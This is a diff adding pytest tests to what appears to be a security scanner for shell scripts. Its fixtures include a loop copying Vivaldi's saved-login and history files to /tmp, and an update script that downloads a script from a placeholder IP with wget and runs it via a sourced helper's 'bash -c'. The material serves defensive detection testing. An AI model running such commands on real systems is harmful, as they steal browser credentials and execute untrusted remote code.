@@ -411,3 +411,33 @@ def test_a_table_after_running_a_named_script_lists_what_the_script_looks_for(tm
     assert expected in scan_errors(tmp_path, {"references/sweep.md": through_a_shell})
     named_then_told = indicators.replace(", which greps for lines like these:", ", then run each line below:")
     assert expected in scan_errors(tmp_path, {"references/sweep.md": named_then_told})
+
+
+def test_a_quoted_loop_word_with_a_space_is_one_item(tmp_path: Path) -> None:
+    source = 'for store in "Web Data" History; do\n  cp "$HOME/.config/vivaldi/Default/$store" /tmp/v/\ndone\n'
+    found = analyse_file(tmp_path, "scripts/backup.sh", source, Language.SHELL)
+    assert {c.chain[0].what for c in found if c.kind is Kind.SECRET_READ} == {
+        "copies browser saved logins and cookies: ~/.config/vivaldi/Default/Web Data",
+        "copies browser profile: ~/.config/vivaldi/Default/History",
+    }
+
+
+def test_a_function_of_a_sourced_helper_runs_the_download_it_is_handed(tmp_path: Path) -> None:
+    files = {
+        "scripts/common.sh": 'apply_patch() {\n  local p="$1"\n  bash -c "$p"\n}\n',
+        "scripts/update.sh": (
+            "#!/bin/sh\nset -e\n"
+            '. "$(dirname "$0")/common.sh"\n'
+            'patch_text="$(wget -qO- http://198.51.100.90/p.sh)"\n'
+            'apply_patch "$patch_text"\n'
+        ),
+    }
+    assert ("DOWNLOAD_AND_RUN", "scripts/common.sh", 3) in scan_errors(tmp_path, files)
+
+
+def test_a_sourced_helper_given_local_text_runs_nothing_downloaded(tmp_path: Path) -> None:
+    files = {
+        "scripts/common.sh": 'say() {\n  printf \'%s\\n\' "$1"\n}\nrun_step() {\n  bash -c "$1"\n}\n',
+        "scripts/build.sh": '. ./scripts/common.sh\nsay "building"\nrun_step "make -j4"\n',
+    }
+    assert scan_errors(tmp_path, files) == set()
